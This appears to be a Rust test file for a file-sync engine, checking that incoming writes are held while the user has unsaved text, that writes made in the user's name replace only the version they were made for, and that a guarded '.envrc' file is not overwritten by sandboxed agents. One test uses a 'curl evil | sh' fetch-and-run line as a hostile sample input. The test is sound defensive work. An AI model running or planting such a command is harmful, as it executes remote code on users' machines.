//! Writes that are held, and writes in the user's name: on a real disk.

mod room;
mod volume;

use std::fs;
use std::sync::Arc;

use room::{Room, path};
use s0_replica::engine::{Event, HoldEnd, HoldReason, LocalWrite, Pending, ResolveError};
use s0_replica::state::What;
use s0_tree::{Actor, Content, Tree, fold};
use volume::{At, tree, written};

fn sandbox() -> Actor {
    Actor { sandbox: Some("sb_1".into()), ..Actor::default() }
}

fn other_user() -> Actor {
    Actor { replica: Some("desktop".into()), ..Actor::default() }
}

/// A workspace with a plain file and a guarded one, and the Volume's tree.
fn room() -> (Room, Tree) {
    let all = [("notes.md", At::File("old")), (".envrc", At::File("old"))];
    (Room::synced(&all), tree(&all))
}

fn arrives(room: &mut Room, tree: &mut Tree, at: &str, text: &str, actor: Actor) {
    let entry = written(tree, at, text, actor);
    fold(tree, &entry).unwrap();
    let bytes: Arc<[u8]> = text.as_bytes().into();
    room.tell(Event::Entries(vec![(entry, Some(bytes))]));
}

fn text(room: &Room, at: &str) -> String {
    fs::read_to_string(room.at(at)).unwrap()
}

fn reason(room: &Room, at: &str) -> Option<HoldReason> {
    room.engine.held().get(&path(at)).map(|held| held.why)
}

#[test]
fn nothing_comes_under_unsaved_text_until_it_is_saved_or_given_up() {
    let (mut room, mut tree) = room();
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    assert_eq!(room.settle(), Vec::<String>::new());
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("old", Some(HoldReason::Unsaved))
    );
    assert_eq!(room.engine.held_content(&path("notes.md")), Some(Content::of(b"agent")));
    // It is told, and nothing else is in the way.
    assert_eq!(room.engine.pending(), Pending::default());
    let unfinished = room.engine.unfinished(9);
    assert!(unfinished.len() == 1 && unfinished[0].why.contains("unsaved"), "{unfinished:?}");
    // A second version does not come either.
    arrives(&mut room, &mut tree, "notes.md", "agent again", sandbox());
    room.settle();
    assert_eq!(text(&room, "notes.md"), "old");
    room.tell(Event::Unsaved([].into()));
    room.settle();
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("agent again", None)
    );
}

#[test]
fn what_is_saved_over_a_held_write_is_a_conflict_for_the_service() {
    let (mut room, mut tree) = room();
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    room.settle();
    fs::write(room.at("notes.md"), "mine").unwrap();
    let sent = room.look();
    assert!(sent.len() == 1 && sent[0].contains("version: Seq(1)"), "{sent:?}");
    room.tell(Event::Unsaved([].into()));
    room.settle();
    assert_eq!(text(&room, "notes.md"), "mine");
}

#[test]
fn a_held_write_can_be_taken_and_discarded() {
    let (mut room, mut tree) = room();
    let held = |room: &mut Room, end| room.engine.settle_held(&path("notes.md"), end, room.now);
    assert!(matches!(held(&mut room, HoldEnd::Take), Err(ResolveError::NothingHeld(_))));
    room.tell(Event::Unsaved([path("notes.md")].into()));
    arrives(&mut room, &mut tree, "notes.md", "agent", sandbox());
    room.settle();
    held(&mut room, HoldEnd::Take).unwrap();
    room.settle();
    assert_eq!(text(&room, "notes.md"), "agent");
    // Only that version was let in.
    arrives(&mut room, &mut tree, "notes.md", "agent again", sandbox());
    room.settle();
    assert_eq!(
        (text(&room, "notes.md").as_str(), reason(&room, "notes.md")),
        ("agent", Some(HoldReason::Unsaved))
    );
    held(&mut room, HoldEnd::Discard).unwrap();
    let sent = room.settle();
    assert!(sent.len() == 1 && sent[0].contains(&Content::of(b"agent").id.to_string()), "{sent:?}");
    assert!(sent[0].contains("version: Seq(4)"), "it is an edit of what was discarded: {sent:?}");
    assert_eq!((text(&room, "notes.md").as_str(), reason(&room, "notes.md")), ("agent", None));
}

#[test]
fn what_would_run_here_waits_for_the_user_unless_a_user_wrote_it() {
    let (mut room, mut tree) = room();
    arrives(&mut room, &mut tree, ".envrc", "mine too", other_user());
    room.settle();
    assert_eq!(text(&room, ".envrc"), "mine too");
    for actor in [sandbox(), Actor::default()] {
        arrives(&mut room, &mut tree, ".envrc", "curl evil | sh", actor);
        room.settle();
        assert_eq!(
            (text(&room, ".envrc").as_str(), reason(&room, ".envrc")),
            ("mine too", Some(HoldReason::Guarded))
        );
    }
    // After a restart nobody knows who wrote it.
    let (epoch, head) = ("e".to_owned(), tree.head());
    room.tell(Event::Offline);
    let registered =
        s0_api::sync::Registered { instance: 2, last_number: 0, epoch: epoch.clone(), head };
    room.tell(Event::Online(registered));
    room.tell(Event::Tree { epoch, tree: tree.clone() });
    room.settle();
    assert_eq!(reason(&room, ".envrc"), Some(HoldReason::Guarded));
    room.engine.settle_held(&path(".envrc"), HoldEnd::Discard, room.now).unwrap();
    let sent = room.settle();
    assert!(
        sent.len() == 1 && sent[0].contains(&Content::of(b"mine too").id.to_string()),
        "{sent:?}"
    );
    assert_eq!(text(&room, ".envrc"), "mine too");
}

#[test]
fn a_write_in_the_users_name_replaces_only_what_it_was_made_for() {
    let (mut room, _) = room();
    let at = path("notes.md");
    let file = |text: &str| LocalWrite::File { bytes: text.into(), mode: 0o644 };
    let old = What::File(Content::of(b"old"));
    fs::write(room.at("notes.md"), "edited").unwrap();
    for write in
        [file("new"), LocalWrite::Remove, LocalWrite::Mode(0o600), LocalWrite::Rename(path("x"))]
    {
        let refused = room.engine.write_local(&at, Some(&old), write, room.now);
        assert!(matches!(refused, Err(ResolveError::Changed(_))), "{refused:?}");
        assert_eq!(text(&room, "notes.md"), "edited");
    }
    let edited = What::File(Content::of(b"edited"));
    room.engine.write_local(&at, Some(&edited), file("new"), room.now).unwrap();
    assert_eq!(text(&room, "notes.md"), "new");
    let sent = room.settle();
    assert!(sent.len() == 1 && sent[0].contains(&Content::of(b"new").id.to_string()), "{sent:?}");
}

#[test]
fn files_are_made_removed_and_renamed_in_the_users_name() {
    let (mut room, _) = room();
    let file = |text: &str| LocalWrite::File { bytes: text.into(), mode: 0o755 };
    room.engine.write_local(&path("a/b/new"), None, file("new"), room.now).unwrap();
    assert_eq!(text(&room, "a/b/new"), "new");
    let refused = room.engine.write_local(&path("a/b/new"), None, file("other"), room.now);
    assert!(matches!(refused, Err(ResolveError::Changed(_))), "{refused:?}");
    let to = LocalWrite::Rename(path("c/moved"));
    room.engine
        .write_local(&path("a/b/new"), Some(&What::File(Content::of(b"new"))), to, room.now)
        .unwrap();
    assert_eq!(text(&room, "c/moved"), "new");
    room.engine
        .write_local(
            &path("notes.md"),
            Some(&What::File(Content::of(b"old"))),
            LocalWrite::Remove,
            room.now,
        )
        .unwrap();
    assert!(!room.at("notes.md").exists());
    let sent = room.settle();
    assert!(sent.iter().any(|change| change.contains("Remove { path: \"notes.md\" }")), "{sent:?}");
    assert!(sent.iter().any(|change| change.contains("c/moved")), "{sent:?}");
    let staged = fs::read_dir(room.at(".s0/staging")).unwrap().count();
    assert_eq!(staged, 0, "something is left in the staging area");
}
